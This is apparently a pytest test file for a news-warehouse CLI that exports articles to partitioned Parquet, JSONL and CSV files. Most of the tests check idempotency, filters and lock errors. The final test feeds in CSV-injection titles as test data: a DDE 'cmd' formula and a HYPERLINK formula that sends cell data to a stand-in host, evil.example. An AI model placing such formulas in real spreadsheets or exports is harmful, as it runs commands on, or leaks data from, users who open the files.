"""``pressroom export``: partitioned, idempotent, readable without the warehouse lock."""

from __future__ import annotations

import hashlib
import json
from dataclasses import replace
from datetime import UTC, datetime
from pathlib import Path

import duckdb

from tests.analyst.conftest import CliRunner, base_articles, write
from warehouse import open_warehouse
from warehouse.export import month_ceil, month_floor


def tree(root: Path) -> dict[str, str]:
    """Relative path → sha256 of every file under ``root``."""
    return {
        str(p.relative_to(root)): hashlib.sha256(p.read_bytes()).hexdigest()
        for p in sorted(root.rglob("*")) if p.is_file()
    }


def read_parquet(root: Path) -> list[tuple[object, ...]]:
    con = duckdb.connect()
    try:
        return con.execute(
            "SELECT source, month, article_id, version, title FROM read_parquet(?, "
            "hive_partitioning = true) ORDER BY source, month, article_id",
            [str(root / "articles" / "**" / "*.parquet")],
        ).fetchall()
    finally:
        con.close()


def test_parquet_export_is_partitioned_and_idempotent(db: Path, tmp_path: Path,
                                                       cli: CliRunner) -> None:
    out = tmp_path / "export"
    proc = cli("export", "--db", str(db), "--out", str(out))
    assert proc.returncode == 0, proc.stderr
    assert "exported 5 articles into 2 partitions (2 files)" in proc.stdout
    first = tree(out)
    assert sorted(first) == [
        "articles/source=belta/month=2026-03/part-0.parquet",
        "articles/source=un_press/month=2026-03/part-0.parquet",
    ]
    assert len(read_parquet(out)) == 5
    # Same data, same bytes, same files: nothing doubled, nothing left behind.
    assert cli("export", "--db", str(db), "--out", str(out)).returncode == 0
    assert tree(out) == first


def test_reexport_replaces_partitions_with_new_versions(db: Path, tmp_path: Path,
                                                        cli: CliRunner) -> None:
    out = tmp_path / "export"
    assert cli("export", "--db", str(db), "--out", str(out)).returncode == 0
    dairy = base_articles()[1]
    write(db, [replace(dairy, title="Dairy exports grow fast")], run_id="run-2")
    proc = cli("export", "--db", str(db), "--out", str(out), "--source", "belta")
    assert proc.returncode == 0, proc.stderr
    got = read_parquet(out)
    assert len(got) == 5
    assert ("belta", "2026-03", dairy.article_id, 2, "Dairy exports grow fast") in got


def test_filters_keep_other_partitions(db: Path, tmp_path: Path, cli: CliRunner) -> None:
    out = tmp_path / "export"
    assert cli("export", "--db", str(db), "--out", str(out)).returncode == 0
    before = tree(out)
    # A mid-month --since is widened to the whole month: the partition stays complete.
    proc = cli("export", "--db", str(db), "--out", str(out), "--source", "un_press",
               "--since", "2026-03-09")
    assert proc.returncode == 0, proc.stderr
    assert tree(out) == before


def test_csv_and_jsonl(db: Path, tmp_path: Path, cli: CliRunner) -> None:
    out = tmp_path / "export"
    assert cli("export", "--db", str(db), "--out", str(out), "--format", "jsonl").returncode == 0
    lines = (out / "articles" / "source=un_press" / "month=2026-03" / "part-0.jsonl") \
        .read_text(encoding="utf-8").splitlines()
    record = json.loads(lines[0])
    assert record["title"].startswith("Third Committee") and "source" not in record
    assert cli("export", "--db", str(db), "--out", str(out), "--format", "csv").returncode == 0
    csv_file = out / "articles" / "source=belta" / "month=2026-03" / "part-0.csv"
    assert csv_file.read_text(encoding="utf-8").splitlines()[0].startswith("article_id,")


def test_an_export_in_another_format_keeps_the_first_formats_files(
        db: Path, tmp_path: Path, cli: CliRunner) -> None:
    # README's two export lines, one --out: the JSONL months sit beside the Parquet ones.
    out = tmp_path / "export"
    assert cli("export", "--db", str(db), "--out", str(out)).returncode == 0
    parquet = tree(out)
    proc = cli("export", "--db", str(db), "--out", str(out), "--format", "jsonl",
               "--source", "belta")
    assert proc.returncode == 0, proc.stderr
    assert "into 1 partitions (1 files)" in proc.stdout
    both = tree(out)
    assert {k: v for k, v in both.items() if k.endswith(".parquet")} == parquet
    assert [k for k in both if k.endswith(".jsonl")] == [
        "articles/source=belta/month=2026-03/part-0.jsonl"]
    assert len(read_parquet(out)) == 5


def test_an_export_keeps_a_users_folder_and_links_in_a_month_it_writes(
        db: Path, tmp_path: Path, cli: CliRunner) -> None:
    # README: "an export replaces only its own format's files in the months it writes".
    # u40: a folder kept in a month (notes, a colleague's extract) went with the old month.
    out = tmp_path / "export"
    assert cli("export", "--db", str(db), "--out", str(out)).returncode == 0
    month = out / "articles" / "source=belta" / "month=2026-03"
    (month / "notes").mkdir()
    (month / "notes" / "read-me.txt").write_text("mine", encoding="utf-8")
    (month / "notes" / "latest").symlink_to("read-me.txt")
    (month / "notes.txt").write_text("mine too", encoding="utf-8")
    (month / "elsewhere").symlink_to(tmp_path)
    proc = cli("export", "--db", str(db), "--out", str(out), "--source", "belta")
    assert proc.returncode == 0, proc.stderr
    assert (month / "notes" / "read-me.txt").read_text(encoding="utf-8") == "mine"
    assert (month / "notes" / "latest").readlink() == Path("read-me.txt")
    assert (month / "notes.txt").read_text(encoding="utf-8") == "mine too"
    assert (month / "elsewhere").readlink() == tmp_path
    assert len(read_parquet(out)) == 5


def test_files_are_readable_while_an_ingest_holds_the_warehouse(
    db: Path, tmp_path: Path, cli: CliRunner
) -> None:
    out = tmp_path / "export"
    assert cli("export", "--db", str(db), "--out", str(out)).returncode == 0
    with open_warehouse(db):  # the write lock, as an ingest would hold it
        assert len(read_parquet(out)) == 5


def test_export_of_a_locked_warehouse_is_one_line(db: Path, tmp_path: Path,
                                                  cli: CliRunner) -> None:
    with open_warehouse(db):
        proc = cli("export", "--db", str(db), "--out", str(tmp_path / "x"),
                   "--lock-timeout", "0")
    assert proc.returncode == 1
    assert proc.stderr.strip().startswith("pressroom: error:") and "locked" in proc.stderr
    assert "Traceback" not in proc.stderr


def test_a_misspelt_source_is_one_line_and_writes_nothing(db: Path, tmp_path: Path,
                                                          cli: CliRunner) -> None:
    # It exported 0 articles and exited 0, so a typo looked like a quiet month.
    out = tmp_path / "export"
    proc = cli("export", "--db", str(db), "--out", str(out), "--source", "belta",
               "--source", "beltaa")
    assert proc.returncode == 1, proc.stdout
    assert proc.stderr.strip() == ("pressroom: error: no source 'beltaa' in this warehouse "
                                   "(no article and no configuration under that name)")
    assert not out.exists()


def test_month_bounds() -> None:
    mid = datetime(2024, 3, 15, 12, tzinfo=UTC)
    assert month_floor(mid) == datetime(2024, 3, 1, tzinfo=UTC)
    assert month_ceil(mid) == datetime(2024, 4, 1, tzinfo=UTC)
    assert month_ceil(datetime(2024, 12, 2, tzinfo=UTC)) == datetime(2025, 1, 1, tzinfo=UTC)
    assert month_ceil(datetime(2024, 4, 1, tzinfo=UTC)) == datetime(2024, 4, 1, tzinfo=UTC)


def test_csv_keeps_formula_like_titles_as_stored(tmp_path: Path, cli: CliRunner) -> None:
    # Review r24 (CSV injection): a page's title can be a spreadsheet formula. The CSV
    # holds it as stored, as DuckDB, pandas and PostgreSQL write CSV (README, "Search,
    # export, reports"), so every reader gets the site's text back; a prefix would change it.
    from tests.analyst.conftest import TRAFFICKING, article

    titles = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?"&A1,"x")',
              "+1 (555) 0100", "-2 dead", "@SUM(1+1)", "\tTabbed"]
    db = tmp_path / "formula.duckdb"
    write(db, [article(f"f{n}", t, TRAFFICKING) for n, t in enumerate(titles)])
    out = tmp_path / "export"
    proc = cli("export", "--db", str(db), "--out", str(out), "--format", "csv")
    assert proc.returncode == 0, proc.stderr
    (part,) = out.rglob("*.csv")
    con = duckdb.connect()
    try:
        got = [r[0] for r in con.execute(
            "SELECT title FROM read_csv(?, all_varchar = true) ORDER BY url", [str(part)]
        ).fetchall()]
    finally:
        con.close()
    assert got == titles
